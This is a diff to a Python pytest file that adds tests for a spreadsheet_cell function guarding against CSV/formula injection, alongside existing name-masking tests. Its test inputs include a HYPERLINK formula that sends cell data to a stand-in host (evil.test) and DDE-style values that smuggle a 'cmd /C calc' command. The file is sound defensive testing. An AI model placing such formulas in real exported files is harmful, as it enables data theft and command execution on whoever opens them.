@@ -7,7 +7,7 @@ import unicodedata
 import pytest
 
 from chalicelib.core.errors import Invalid
-from chalicelib.core.text import clean_text, mask_name
+from chalicelib.core.text import clean_text, mask_name, spreadsheet_cell
 
 NFC_NAME = "Nguyễn Văn An"
 
@@ -85,3 +85,29 @@ def test_mask_name_keeps_initials_only() -> None:
     assert mask_name(NFC_NAME) == "N***** V** A*"
     assert mask_name("An") == "A*"
     assert "guy" not in mask_name(NFC_NAME)
+
+
+# --- spreadsheet cells (CSV injection) -------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "typed",
+    [
+        '=HYPERLINK("http://evil.test/?x="&A1,"Bảo hành")',
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+9)*cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "＝1+1",
+    ],
+)
+def test_a_value_a_spreadsheet_would_run_gets_a_leading_apostrophe(typed: str) -> None:
+    assert spreadsheet_cell(typed) == "'" + typed
+
+
+@pytest.mark.parametrize(
+    "typed", ["Máy lạnh Inverter AC-9", "Nguyễn Văn An", "12 Lê Lợi, Q.1", "LÔ-2026-01", "", "'=1"]
+)
+def test_an_ordinary_value_goes_into_a_cell_unchanged(typed: str) -> None:
+    assert spreadsheet_cell(typed) == typed
